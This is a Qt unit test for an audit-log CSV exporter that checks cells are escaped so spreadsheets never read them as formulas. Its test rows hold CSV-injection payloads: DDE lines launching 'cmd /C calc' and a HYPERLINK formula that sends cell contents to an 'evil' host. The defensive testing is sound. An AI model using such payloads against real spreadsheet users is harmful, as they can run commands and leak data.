#include "core/ops/AuditCsv.h"
#include "core/ops/AuditEntry.h"
#include "core/support/Csv.h"

#include <QTest>

using namespace outbox;

// Issue 26: the audit CSV that every front end exports (console, outboxctl, web API) holds
// database text; a cell must never reach a spreadsheet as a formula.
class TestAuditCsv : public QObject
{
    Q_OBJECT

private slots:
    void cellsNeverStartAFormula_data()
    {
        QTest::addColumn<QString>("text");
        QTest::addColumn<QString>("cell");
        QTest::newRow("plain") << "stock fixed"
                               << "stock fixed";
        QTest::newRow("empty") << ""
                               << "";
        QTest::newRow("hyperlink") << "=HYPERLINK(\"http://evil/?\"&A1;\"x\")"
                                   << "\"'=HYPERLINK(\"\"http://evil/?\"\"&A1;\"\"x\"\")\"";
        QTest::newRow("dde") << "+cmd|' /C calc'!A0"
                             << "'+cmd|' /C calc'!A0";
        QTest::newRow("minus") << "-2+3+cmd|' /C calc'!A0"
                               << "'-2+3+cmd|' /C calc'!A0";
        QTest::newRow("at") << "@SUM(1+1)*cmd|' /C calc'!A0"
                            << "'@SUM(1+1)*cmd|' /C calc'!A0";
        QTest::newRow("tab") << "\t=1+1"
                             << "'\t=1+1";
        QTest::newRow("carriage return") << "\r=1+1"
                                         << "\"'\r=1+1\"";
        QTest::newRow("full-width equals") << QStringLiteral("\uFF1D1+1") << QStringLiteral("'\uFF1D1+1");
        QTest::newRow("comma") << "a,b"
                               << "\"a,b\"";
        QTest::newRow("formula with comma") << "=1,2"
                                            << "\"'=1,2\"";
        QTest::newRow("quote") << "say \"hi\""
                               << "\"say \"\"hi\"\"\"";
        QTest::newRow("newline") << "a\nb"
                                 << "\"a\nb\"";
        QTest::newRow("equals inside") << "a=b"
                                       << "a=b";
        QTest::newRow("json object") << "{\"status\":\"FAILED\"}"
                                     << "\"{\"\"status\"\":\"\"FAILED\"\"}\"";
    }
    void cellsNeverStartAFormula()
    {
        QFETCH(QString, text);
        QFETCH(QString, cell);
        QCOMPARE(Csv::cell(text), cell);
        // What a spreadsheet sees after removing the CSV quoting never starts a formula.
        QString seen = Csv::cell(text);
        if (seen.startsWith(QLatin1Char('"')))
            seen = seen.mid(1, seen.size() - 2).replace(QStringLiteral("\"\""), QStringLiteral("\""));
        QVERIFY2(!Csv::looksLikeFormula(seen), qPrintable(seen));
    }

    void linesEndWithCrLf()
    {
        QCOMPARE(Csv::line({QStringLiteral("a"), QStringLiteral("=b"), QString()}), QByteArray("a,'=b,\r\n"));
    }

    void auditEntriesExportEveryColumnDefused()
    {
        AuditEntry e;
        e.id = 7;
        e.at = QDateTime(QDate(2026, 1, 2), QTime(3, 4, 5), Qt::UTC);
        e.actor = QStringLiteral("+cmd|' /C calc'!A0");
        e.host = QStringLiteral("@host");
        e.action = QStringLiteral("events.requeue");
        e.targetKind = QStringLiteral("event");
        e.targetIds = QJsonArray{1, 2};
        e.reason = QStringLiteral("=HYPERLINK(\"http://evil\",\"click\")");
        e.affectedCount = 2;
        e.outcome = QStringLiteral("-ok");
        QCOMPARE(AuditCsv::header(),
                 QByteArray("id,at,actor,host,action,target_kind,target_ids,filter,reason,"
                            "affected_count,before,after,outcome\r\n"));
        const QByteArray line = AuditCsv::line(e.toJson());
        QVERIFY2(line.startsWith("7,"), line.constData());
        QVERIFY2(line.contains(",'+cmd|' /C calc'!A0,'@host,events.requeue,event,\"[1,2]\","),
                 line.constData());
        QVERIFY2(line.contains(",\"'=HYPERLINK(\"\"http://evil\"\",\"\"click\"\")\",2,"), line.constData());
        QVERIFY2(line.endsWith(",'-ok\r\n"), line.constData());
    }
};

QTEST_GUILESS_MAIN(TestAuditCsv)
#include "tst_auditcsv.moc"
